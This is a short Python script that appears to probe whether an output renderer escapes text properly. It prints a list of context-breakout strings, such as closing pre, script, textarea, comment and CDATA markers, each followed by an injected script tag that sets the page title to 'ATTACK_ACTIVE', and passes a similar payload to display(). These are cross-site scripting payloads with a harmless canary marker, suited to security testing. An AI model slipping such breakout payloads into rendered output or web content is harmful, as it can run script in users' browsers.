"""Close whatever the text may stand in: pre, script, style, textarea, title, comment, CDATA, attribute, template.

"""
for end in ("</pre>", "</div></div></div>", "</script>", "</style>", "</textarea>", "</title>", "-->", "]]>", "\">", "'>",
            "{{", "{%", "</template>", "</noscript>", "</svg>", "</math>", "\x00>", "<!--", "<![CDATA["):
    print(end + "<script>document.title='ATTACK_ACTIVE'</script>")
raised = "</pre></div><script>document.title='ATTACK_ACTIVE'</script>"
display({raised: [raised]})
